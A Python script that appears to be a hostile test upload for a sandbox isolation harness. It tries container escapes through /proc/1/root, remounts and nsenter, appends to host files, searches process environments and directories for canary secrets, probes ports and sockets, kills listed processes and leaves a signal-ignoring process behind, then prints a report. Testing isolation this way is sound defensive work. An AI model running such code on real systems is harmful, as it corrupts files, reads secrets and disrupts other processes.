"""What hostile uploads run: everything at once that could hurt the host, another lab or the next one.

It is uploaded as `attack.py` behind a line `TARGETS = {...}`, so it stands alone, and it is also pasted into templates,
so no two braces stand side by side. What came of it is in the file `hostile-TOKEN` beside it and in /, and in one line
of its output.
"""

# It stands alone, in templates as well, and speaks by printing.
# ruff: noqa: BLE001, C408, PTH103, PTH110, PTH113, PTH123, T201, UP031

import ipaddress
import json
import os
import re
import socket
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

TARGETS = globals().get("TARGETS", dict(token="none"))
TOKEN = TARGETS["token"]
MARK = "hostile-" + TOKEN
LOOT = re.compile(rb"LOOT-[0-9a-f]{32}")
WALKED = ("/etc", "/root", "/home", "/run", "/tmp", "/var/tmp", "/var/lib", "/srv", "/mnt", "/dev/shm", "/lab")
MOST_FILES = 2000
MOST_BYTES = 4_000_000
CONNECT_SECONDS = 0.4


def leftovers():
    """Marks of other attacks: the lab before was not cleaned up."""
    places = [*WALKED, "/", "/usr", "/usr/local/bin", "/opt", "/image", "/image/usr", *TARGETS["places"]]
    found = set()
    for place in places:
        with suppress(OSError):
            found |= {place + "/" + name for name in os.listdir(place) if name.startswith("hostile-")}
    return sorted(name for name in found if not name.endswith(MARK))


def write_everywhere():
    """Leave a mark in every place, straight and through other processes' roots; spoil files of the host."""
    wrote = []
    inside = ["/", "/usr", "/usr/local/bin", "/opt", "/image", "/image/usr"]
    for place in [*TARGETS["places"], *inside]:
        for root in ("", "/proc/1/root", "/proc/self/root/proc/1/root", "/proc/1/cwd/../../../.."):
            with suppress(OSError):
                Path(root + place, MARK).write_text("here I was\n")
                wrote.append(root + place)
    for name in TARGETS["files"]:
        with suppress(OSError), open(name, "ab") as stream:
            stream.write(b"spoilt\n")
            wrote.append(name)
    for name, text in TARGETS["settings"]:
        with suppress(OSError):
            Path(name).write_text(text)
            wrote.append(name)
    return wrote


def mount_everything():
    """Make what is read-only writable, and see what the kernel shows."""
    place = "/tmp/" + MARK + "-mount"
    with suppress(OSError):
        os.makedirs(place, exist_ok=True)
    tries = [
        "mount -o remount,rw,bind /image",
        "mount -o remount,rw /image",
        "mount -o remount,rw /",
        *("mount -t %s none %s" % (kind, place) for kind in ("debugfs", "securityfs", "cgroup", "cgroup2", "devtmpfs")),
        "mount --bind / " + place,
        *("mknod /tmp/%s-%s b %s" % (MARK, name, name.replace("-", " ")) for name in ("8-0", "254-0", "259-0")),
        *("nsenter -t %d -m -- touch /tmp/%s" % (pid, MARK) for pid in TARGETS["pids"][:1]),
    ]
    script = "; ".join("%s 2>/dev/null" % one for one in tries)
    with suppress(OSError, subprocess.TimeoutExpired):
        subprocess.run(["sh", "-c", script], timeout=10, capture_output=True, check=False)


def loot():
    """Secrets of the host, the server and other labs that can be read."""
    names = [*TARGETS["files"], *("/proc/1/root" + name for name in TARGETS["files"])]
    with suppress(OSError):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            names += ["/proc/%s/%s" % (pid, what) for what in ("environ", "cmdline")]
    for place in [*WALKED, *TARGETS["places"]]:
        for folder, _, files in os.walk(place):
            names += [folder + "/" + name for name in files]
            if len(names) > MOST_FILES:
                break
    found = set()
    for name in names[: 2 * MOST_FILES]:
        with suppress(OSError):
            if name.startswith("/proc/") or os.path.isfile(name):
                with open(name, "rb") as stream:
                    found |= set(LOOT.findall(stream.read(MOST_BYTES)))
    return sorted(one.decode() for one in found)


def connect_everywhere():
    """Everything of the host that listens, by every address that may be the host's."""
    hosts = list(TARGETS["hosts"])
    with suppress(OSError, ValueError, subprocess.TimeoutExpired):
        shown = subprocess.run(["ip", "-j", "-4", "address"], capture_output=True, timeout=5, check=False).stdout
        for link in json.loads(shown):
            for one in link["addr_info"]:
                if one["prefixlen"] < 31:
                    network = ipaddress.ip_interface("%s/%s" % (one["local"], one["prefixlen"])).network
                    hosts += [str(network[-2]), str(network[1]), one["local"]]
    pending = []
    for host in dict.fromkeys(hosts):
        for port in TARGETS["ports"]:
            with suppress(OSError):
                connection = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
                connection.setblocking(False)
                connection.connect_ex((host, port))
                pending.append(((host, port), connection))
        with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            for port in TARGETS["ports"]:
                datagrams.sendto(MARK.encode(), (host, port))
    for name in TARGETS["sockets"]:
        with suppress(OSError):
            connection = socket.socket(socket.AF_UNIX)
            connection.connect("\0" + name[1:] if name.startswith("@") else name)
            pending.append(((name, 0), connection))
    deadline = time.monotonic() + CONNECT_SECONDS
    reached = []
    while pending and time.monotonic() < deadline:
        for address, connection in list(pending):
            with suppress(OSError):
                connection.getpeername()
                connection.send(MARK.encode() + b"\n")
                reached.append("%s:%s" % address)
                pending.remove((address, connection))
        time.sleep(0.02)
    return reached


def kill_everybody_else():
    killed = []
    for pid in TARGETS["pids"]:
        with suppress(OSError):
            os.kill(pid, 9)
            killed.append(pid)
    return killed


def stay_behind():
    """A process in a session of its own that heeds no signal that can be ignored."""
    if os.fork() == 0:
        os.setsid()
        nothing = os.open("/dev/null", os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(nothing, descriptor)
        if os.fork() == 0:
            asleep = "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; time.sleep(900)"
            os.execv(sys.executable, [sys.executable, "-c", asleep, MARK])
        os._exit(0)
    os.wait()


def main():
    if os.path.exists("/" + MARK):
        return  # one way in is often tried for each node and each module
    report = dict(token=TOKEN, uid=os.getuid(), dirty=leftovers())
    for step in (write_everywhere, connect_everywhere, loot, kill_everybody_else, stay_behind, mount_everything):
        try:
            report[step.__name__] = step()
        except Exception as error:
            report[step.__name__] = "broke: " + repr(error)
    text = json.dumps(report)
    for place in (".", "/"):
        with suppress(OSError):
            Path(place, MARK).write_text(text)
    print("HOSTILE " + text, flush=True)


main()
